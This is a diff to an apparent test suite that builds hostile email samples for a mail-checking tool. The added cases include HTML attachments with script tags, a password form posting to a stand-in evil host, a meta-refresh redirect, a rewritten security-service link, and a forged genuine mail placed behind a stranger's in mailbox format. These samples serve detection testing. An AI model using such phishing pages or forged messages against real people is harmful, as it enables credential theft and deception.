@@ -595,6 +595,12 @@ def links() -> Iterator[Hostile]:
         ),
         ("shortener", "a shortener", "link-host", "https://bit.example/3xYz"),
         (
+            "service",
+            "a security service's link that does not say where it leads",
+            "link-rewritten",
+            "https://protect-eu.mimecast.com/s/AbCdEfGh?domain=ras-immi.moj.go.jp",
+        ),
+        (
             "translate",
             "the genuine page through a translator",
             "link-host",
@@ -843,6 +849,52 @@ def contents() -> Iterator[Hostile]:
         )
         head, body = multipart("mixed", part(plain("utf-8"), first()), attached)
         yield Hostile(f"attached-{name}", tries, "dangerous-file", mail(body, mime=head))
+    for number, page_of_server in enumerate(
+        (
+            "<html><body><script>x()</script></body></html>",
+            f"<html><body><form action='https://{EVIL}/'><input type=password></form></body></html>",
+            f"<html><head><meta http-equiv=refresh content='0;url=https://{EVIL}/'></head></html>",
+            "<html><body onload='x()'></body></html>",
+        )
+    ):
+        attached = part(
+            'Content-Type: text/html\r\nContent-Disposition: attachment; filename="ATT00001.htm"',
+            page_of_server,
+        )
+        head, body = multipart("mixed", part(plain("utf-8"), first()), attached)
+        yield Hostile(
+            f"attached-server-page-{number}",
+            "a page that works by itself under the name that Exchange gives",
+            "dangerous-file",
+            mail(body, mime=head),
+        )
+    harmless = part(
+        'Content-Type: text/html\r\nContent-Disposition: attachment; filename="ATT00001.htm"', " "
+    )
+    working = part(
+        'Content-Type: text/html\r\nContent-Disposition: attachment; filename="ATT00001.htm"',
+        "<script>x()</script>",
+    )
+    head, body = multipart("mixed", part(plain("utf-8"), first()), harmless, working)
+    yield Hostile(
+        "attached-server-page-behind",
+        "the same behind a harmless one of its name",
+        "dangerous-file",
+        mail(body, mime=head),
+    )
+    other = part(
+        "Content-Type: text/plain; charset=utf-8\r\n"
+        'Content-Disposition: attachment; filename="id.txt"',
+        first("ZZ99887766"),
+    )
+    head, body = multipart("mixed", part(plain("utf-8"), first()), other)
+    yield Hostile(
+        "ids-attached",
+        "another ID in an attached text",
+        "several-ids",
+        mail(body, mime=head),
+        verdict="ask",
+    )
     split = part(
         "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*0*=utf-8''%6eotice; filename*1*=%2ee; filename*2=xe",
         b"MZ",
@@ -982,6 +1034,23 @@ def structures() -> Iterator[Hostile]:
         "NUL bytes between the letters of the label",
         "no-id",
         mail(first().replace("証", "\0証\0"), subject="パスワード登録完了", mime=plain("utf-8")),
+        verdict="ask",
+    )
+    yield Hostile("no-text", "no text at all", "no-text", mail(" \r\n"), verdict="ask")
+    envelope = b"From x@evil.example Tue Nov 24 10:12:13 2026\n"
+    lunch = b"From: x@evil.example\nTo: hanh@example.jp\nSubject: lunch\n\nhello\n\n"
+    genuine = mail(first()).replace(b"\r\n", b"\n")
+    yield Hostile(
+        "mails-two",
+        "a stranger's mail, and a forged genuine one behind it as in a mailbox file",
+        "sender-other",
+        envelope + lunch + envelope + genuine,
+    )
+    yield Hostile(
+        "mails-two-genuine",
+        "two mails in one, the genuine one first",
+        "several-mails",
+        envelope + genuine + b"\n" + envelope + mail(first("ZZ99887766")).replace(b"\r\n", b"\n"),
         verdict="ask",
     )
     yield Hostile(
